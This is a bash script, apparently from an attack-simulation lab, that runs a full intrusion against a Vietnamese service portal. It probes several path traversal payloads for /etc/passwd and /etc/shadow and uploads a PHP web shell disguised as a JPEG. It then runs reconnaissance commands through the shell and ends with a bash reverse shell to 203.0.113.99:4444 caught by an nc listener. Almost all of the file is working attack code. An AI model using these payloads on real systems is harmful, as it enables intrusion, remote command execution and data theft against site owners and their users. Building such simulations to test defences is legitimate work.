# Path traversal to look round, a PHP web shell through the upload form, commands through it, then a reverse shell.
# shellcheck shell=bash

attack_web_shell() {
  local path words agent='python-requests/2.28.1' site=http://dvc.saola.example
  for path in '/tai-ve.php?tep=../../../etc/passwd' '/tai-ve.php?tep=..%2f..%2f..%2fetc%2fpasswd' \
    '/tai-ve.php?tep=....//....//etc/passwd' '/tai-ve.php?tep=../nop-ho-so.php' '/../../../../etc/passwd' \
    '/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow'; do
    on attacker-shell curl -s --path-as-is -A "$agent" -o /dev/null "$site$path"
  done
  on attacker-shell bash -c 'echo "<?php system(\$_REQUEST[\"c\"]); ?>" >/tmp/anh-the.php'
  on attacker-shell curl -s -A "$agent" -F ho_ten=A -F 'tep=@/tmp/anh-the.php;type=image/jpeg' $site/nop-ho-so.php
  for words in whoami id 'uname -sm' 'cat /etc/passwd' 'ls -la /srv/dvc' 'cat /srv/dvc/tra-cuu.php'; do
    on attacker-shell curl -s -G -A "$agent" --data-urlencode "c=$words" $site/tai-len/anh-the.php
    sleep 1
  done
  on attacker-shell curl -s -A "$agent" --data-urlencode 'c=ps aux' $site/tai-len/anh-the.php
  reverse_shell "$agent" $site
}

reverse_shell() {
  on attacker-shell bash -c '(sleep 4; for words in id "uname -sm" "cat /etc/hostname" "ls -la /var/lib/dvc" "head -c 300 /var/lib/dvc/gop-y.txt" exit
    do echo "$words"; sleep 1; done) | timeout 40 nc -n -l -p 4444' &
  local listener=$!
  sleep 1
  on attacker-shell curl -s -m 30 -A "$1" -o /dev/null --data-urlencode \
    "c=bash -c 'bash -i >& /dev/tcp/203.0.113.99/4444 0>&1'" "$2/tai-len/anh-the.php" || true
  wait $listener || true
}
